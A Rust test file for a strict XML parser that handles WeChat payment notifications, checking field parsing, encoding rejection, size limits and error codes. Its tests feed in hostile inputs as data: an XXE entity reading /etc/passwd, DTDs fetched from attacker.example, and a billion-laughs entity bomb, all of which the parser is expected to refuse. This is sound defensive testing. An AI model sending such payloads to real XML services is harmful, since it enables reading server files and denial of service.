use proptest::prelude::*;

use super::*;

const LIMIT: usize = 16 * 1024;

fn refused(input: &str) -> XmlError {
    parse(input.as_bytes(), LIMIT).expect_err(input)
}

#[test]
fn reads_a_pay_notify_in_document_order() {
    // The shape of WeChat's API v2 payment notify (values made up).
    let xml = "<xml>\n  <appid><![CDATA[wx2421b1c4370ec43b]]></appid>\n  \
               <attach><![CDATA[支付测试]]></attach>\n  <bank_type><![CDATA[CFT]]></bank_type>\n  \
               <cash_fee><![CDATA[1]]></cash_fee>\n  <total_fee>1</total_fee>\n  \
               <is_subscribe><![CDATA[Y]]></is_subscribe>\n</xml>";
    let fields = parse(xml.as_bytes(), LIMIT).unwrap();
    let keys: Vec<&str> = fields.iter().map(|(k, _)| k).collect();
    assert_eq!(
        keys,
        [
            "appid",
            "attach",
            "bank_type",
            "cash_fee",
            "total_fee",
            "is_subscribe"
        ]
    );
    assert_eq!(fields.get("attach"), Some("支付测试"));
    assert_eq!(fields.get("total_fee"), Some("1"));
    assert_eq!(fields.get("missing"), None);
}

#[test]
fn a_declaration_bom_empty_fields_and_mixed_text_are_read() {
    let xml = "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml><a/><b></b>\
               <c>x<![CDATA[<y>]]>z</c><d> spaced </d></xml>\n";
    let fields = parse(xml.as_bytes(), LIMIT).unwrap();
    assert_eq!(fields.get("a"), Some(""));
    assert_eq!(fields.get("b"), Some(""));
    assert_eq!(fields.non_empty("b"), None);
    assert_eq!(fields.get("c"), Some("x<y>z"));
    assert_eq!(fields.get("d"), Some(" spaced "));
    assert!(parse(b"<xml/>", LIMIT).unwrap().is_empty());
}

#[test]
fn predefined_entities_and_character_references_are_read() {
    let fields = parse(
        b"<xml><a>&lt;&gt;&amp;&apos;&quot;&#60;&#x3C;&#x4e2d;</a></xml>",
        LIMIT,
    )
    .unwrap();
    assert_eq!(fields.get("a"), Some("<>&'\"<<中"));
    for bad in [
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&#;",
        "&#x;",
        "&#+60;",
        "&#1;",
    ] {
        let err = refused(&format!("<xml><a>{bad}</a></xml>"));
        assert_eq!(err.code(), "malformed", "{bad}: {err}");
    }
    assert_eq!(refused("<xml><a>a & b</a></xml>").code(), "malformed");
    assert_eq!(refused("<xml><a>a &amp b</a></xml>").code(), "malformed");
}

#[test]
fn xxe_with_an_external_system_entity_is_refused_at_the_doctype() {
    let xxe = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
               <!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n\
               <xml><return_code>SUCCESS</return_code><attach>&xxe;</attach></xml>";
    assert_eq!(refused(xxe), XmlError::Doctype);
    let remote = "<!DOCTYPE xml SYSTEM \"http://attacker.example/evil.dtd\"><xml></xml>";
    assert_eq!(refused(remote), XmlError::Doctype);
    let parameter = "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]><xml/>";
    assert_eq!(refused(parameter).code(), "doctype_refused");
    // Without a DTD, an undeclared entity is refused by name, never looked up.
    assert_eq!(
        refused("<xml><attach>&xxe;</attach></xml>"),
        XmlError::Entity("xxe".into())
    );
    assert_eq!(
        refused("<xml><a>&averyveryverylongentitynamethatgoesonandon;</a></xml>").code(),
        "entity_refused"
    );
}

#[test]
fn billion_laughs_is_refused_before_any_expansion() {
    let mut bomb =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        bomb.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    bomb.push_str("]>\n<xml><a>&lol9;</a></xml>");
    let started = std::time::Instant::now();
    assert_eq!(refused(&bomb).code(), "doctype_refused");
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
    assert_eq!(refused("<xml><a>&lol9;</a></xml>").code(), "entity_refused");
}

#[test]
fn processing_instructions_other_than_the_declaration_are_refused() {
    for pi in [
        "<?xml-stylesheet href=\"x.xsl\"?><xml/>",
        "<xml><?php echo 1; ?></xml>",
        "<xml><a><?pi x?></a></xml>",
        "<?xml version=\"1.0\"?><?xml version=\"1.0\"?><xml/>",
        " <?xml version=\"1.0\"?><xml/>",
    ] {
        assert_eq!(refused(pi), XmlError::ProcessingInstruction, "{pi}");
    }
}

#[test]
fn gbk_bytes_and_a_gbk_declaration_are_refused() {
    // "测试" in GBK: B2 E2 CA D4, which is not UTF-8.
    let mut gbk = b"<xml><body>".to_vec();
    gbk.extend_from_slice(&[0xB2, 0xE2, 0xCA, 0xD4]);
    gbk.extend_from_slice(b"</body></xml>");
    assert_eq!(parse(&gbk, LIMIT).unwrap_err(), XmlError::NotUtf8);
    assert_eq!(parse(&gbk, LIMIT).unwrap_err().code(), "not_utf8");
    let declared = "<?xml version=\"1.0\" encoding=\"GBK\"?><xml><body>x</body></xml>";
    assert_eq!(refused(declared), XmlError::Encoding("GBK".into()));
    assert_eq!(refused(declared).code(), "unsupported_encoding");
    let single = "<?xml version='1.0' encoding='gb2312'?><xml/>";
    assert_eq!(refused(single).code(), "unsupported_encoding");
    // UTF-16 (with its BOM) is not UTF-8 either.
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("<xml/>".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert_eq!(parse(&utf16, LIMIT).unwrap_err(), XmlError::NotUtf8);
}

#[test]
fn input_over_the_limit_is_refused_before_it_is_read() {
    let xml = format!("<xml><a>{}</a></xml>", "x".repeat(100));
    assert_eq!(
        parse(xml.as_bytes(), 64).unwrap_err(),
        XmlError::TooLarge(64)
    );
    assert!(parse(xml.as_bytes(), xml.len()).is_ok());
    // The limit applies to the raw bytes, even when they are not UTF-8 at all.
    assert_eq!(parse(&[0xFF; 100], 10).unwrap_err().code(), "too_large");
}

#[test]
fn nested_elements_duplicates_other_roots_and_trailing_content_are_refused() {
    assert_eq!(
        refused("<xml><a><b>1</b></a></xml>"),
        XmlError::Nested("a".into())
    );
    assert_eq!(refused("<xml><a>x<b/></a></xml>").code(), "nested_element");
    assert_eq!(
        refused("<xml><a>1</a><a>2</a></xml>"),
        XmlError::Duplicate("a".into())
    );
    assert_eq!(refused("<xml><a>1</a><a/></xml>").code(), "duplicate_key");
    assert_eq!(
        refused("<root><a>1</a></root>"),
        XmlError::Root {
            expected: "xml",
            found: "root".into()
        }
    );
    assert!(parse_root(b"<root><a>1</a></root>", "root", LIMIT).is_ok());
    assert_eq!(refused("<xml></xml>garbage"), XmlError::Trailing);
    assert_eq!(refused("<xml></xml><xml></xml>"), XmlError::Trailing);
    assert_eq!(refused("<xml></xml><!-- c -->").code(), "trailing_content");
}

#[test]
fn malformed_documents_are_refused() {
    for bad in [
        "",
        "   ",
        "not xml",
        "garbage<xml/>",
        "<xml>",
        "<xml><a>1</a>",
        "<xml><a>1</b></xml>",
        "<xml><a>1</ab></xml>",
        "<xml><a>1</a></xm>",
        "<xml id=\"1\"><a>1</a></xml>",
        "<xml><a k=\"v\">1</a></xml>",
        "<xml>text<a>1</a></xml>",
        "<xml><![CDATA[x]]></xml>",
        "<xml><a><![CDATA[x</a></xml>",
        "<xml><a>x]]>y</a></xml>",
        "<xml><a><!-- c --></a></xml>",
        "<!-- c --><xml/>",
        "<xml><1a>1</1a></xml>",
        "<xml><ns:a>1</ns:a></xml>",
        "<xml><a>\u{1}</a></xml>",
        "<xml><a><![CDATA[\u{0}]]></a></xml>",
        "<?xml version=\"1.0\"<xml/>",
    ] {
        let err = refused(bad);
        assert_eq!(err.code(), "malformed", "{bad:?}: {err:?}");
    }
}

#[test]
fn error_codes_are_stable_snake_case() {
    let all = [
        XmlError::TooLarge(1),
        XmlError::NotUtf8,
        XmlError::Encoding("GBK".into()),
        XmlError::Doctype,
        XmlError::Entity("x".into()),
        XmlError::ProcessingInstruction,
        XmlError::Root {
            expected: "xml",
            found: "r".into(),
        },
        XmlError::Nested("a".into()),
        XmlError::Duplicate("a".into()),
        XmlError::Trailing,
        XmlError::Malformed("x"),
    ];
    let codes: Vec<&str> = all.iter().map(XmlError::code).collect();
    assert_eq!(
        codes,
        [
            "too_large",
            "not_utf8",
            "unsupported_encoding",
            "doctype_refused",
            "entity_refused",
            "processing_instruction_refused",
            "wrong_root",
            "nested_element",
            "duplicate_key",
            "trailing_content",
            "malformed",
        ]
    );
}

#[test]
fn the_writer_uses_cdata_and_splits_its_terminator() {
    let xml = write([("return_code", "SUCCESS"), ("return_msg", "OK")]);
    assert_eq!(
        xml,
        "<xml><return_code><![CDATA[SUCCESS]]></return_code><return_msg><![CDATA[OK]]></return_msg></xml>"
    );
    let tricky = write([("a", "x]]>y"), ("b", "]]>]]>"), ("c", "<&>\"'"), ("d", "")]);
    assert_eq!(
        tricky,
        "<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a><b><![CDATA[]]]]><![CDATA[>]]]]><![CDATA[>]]></b>\
         <c><![CDATA[<&>\"']]></c><d><![CDATA[]]></d></xml>"
    );
    let back = parse(tricky.as_bytes(), LIMIT).unwrap();
    assert_eq!(back.get("a"), Some("x]]>y"));
    assert_eq!(back.get("b"), Some("]]>]]>"));
    assert_eq!(back.get("c"), Some("<&>\"'"));
    assert_eq!(back.get("d"), Some(""));
}

#[test]
fn fields_set_replace_in_place_and_remove() {
    let mut fields: Fields = [("a", "1"), ("b", "2")].into_iter().collect();
    fields.set("a", "3");
    fields.set("c", "4");
    assert_eq!(fields.to_xml(), write([("a", "3"), ("b", "2"), ("c", "4")]));
    assert_eq!(fields.remove("b").as_deref(), Some("2"));
    assert_eq!(fields.len(), 2);
}

proptest! {
    #[test]
    fn whatever_is_written_reads_back(
        values in proptest::collection::vec("[^\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f]{0,40}", 0..8)
    ) {
        let fields: Fields = values
            .iter()
            .enumerate()
            .map(|(i, v)| (format!("k_{i}"), v.clone()))
            .collect();
        let xml = fields.to_xml();
        prop_assert_eq!(parse(xml.as_bytes(), usize::MAX).unwrap(), fields);
    }

    #[test]
    fn any_bytes_give_an_answer_not_a_panic(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = parse(&bytes, LIMIT);
    }

    #[test]
    fn mutated_documents_give_an_answer_not_a_panic(s in "[<>/!?&#;\\[\\]CDATxml a=\"]{0,60}") {
        let _ = parse(s.as_bytes(), LIMIT);
    }
}
